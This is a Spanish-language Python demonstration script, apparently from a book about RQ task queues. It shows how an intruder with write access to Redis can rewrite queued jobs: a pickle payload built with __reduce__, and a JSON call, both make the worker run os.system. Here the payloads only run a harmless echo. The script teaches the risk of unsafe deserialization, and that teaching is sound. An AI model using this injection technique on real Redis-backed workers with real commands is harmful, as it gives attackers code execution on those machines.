"""DEMOSTRACIÓN INOFENSIVA: lo que puede hacer quien escribe en tu Redis.

Uso: python serializacion_intruso.py

Ejecútalo solo contra tu Redis de pruebas, el de REDIS_URL. Encola dos
trabajos normales de la tarea del libro, uno en la cola `pedidos` (pickle) y
otro en `pedidos-json` (JSON), y después les cambia los datos como lo haría
un intruso que puede escribir en Redis. Lo único que hacen los datos
cambiados es ejecutar `echo`: el worker que los coja escribirá en su log una
línea que empieza por "[intruso]". Nada más.
"""

import json
import os
import pickle
import sys
import zlib

from rq import Queue

from conexion import conectar
from tareas import tarea_pesada_y_falible

# Las dos órdenes que acabará ejecutando un worker: solo escriben una línea.
ORDEN_PICKLE = "echo '[intruso] pickle: el worker ha ejecutado esta orden al leer el trabajo'"
ORDEN_JSON = "echo '[intruso] JSON: el worker ha llamado a os.system en vez de a la tarea'"


class OrdenAlLeer:
    """Un objeto cuyo pickle, al leerse, ejecuta una orden del sistema."""

    def __init__(self, orden):
        self.orden = orden

    def __reduce__(self):
        # pickle no guarda el objeto, sino cómo rehacerlo: "llama a
        # os.system con este argumento". Quien lo lea, lo llama.
        return os.system, (self.orden,)


def main(argumentos):
    if argumentos:
        print("Uso: python serializacion_intruso.py  (sin argumentos)", file=sys.stderr)
        return 2
    conexion = conectar()

    # Tu aplicación encola dos trabajos de lo más normales...
    con_pickle = Queue("pedidos", connection=conexion).enqueue(
        tarea_pesada_y_falible, 3, fallar=False
    )
    con_json = Queue("pedidos-json", connection=conexion, serializer="json").enqueue(
        tarea_pesada_y_falible, 3, fallar=False
    )

    # ...y el intruso, sin RQ ni tu código, solo con acceso a Redis, cambia
    # el campo "data" de cada uno, comprimido con zlib como lo guarda RQ.
    carga = pickle.dumps(OrdenAlLeer(ORDEN_PICKLE))
    conexion.hset(con_pickle.key, "data", zlib.compress(carga))
    llamada = ["os.system", None, [ORDEN_JSON], {}]  # función, instancia, args, kwargs
    conexion.hset(con_json.key, "data", zlib.compress(json.dumps(llamada).encode()))

    print(f"pedidos: el trabajo {con_pickle.id} lleva ahora un pickle con una orden")
    print(f"pedidos-json: el trabajo {con_json.id} llama ahora a os.system")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
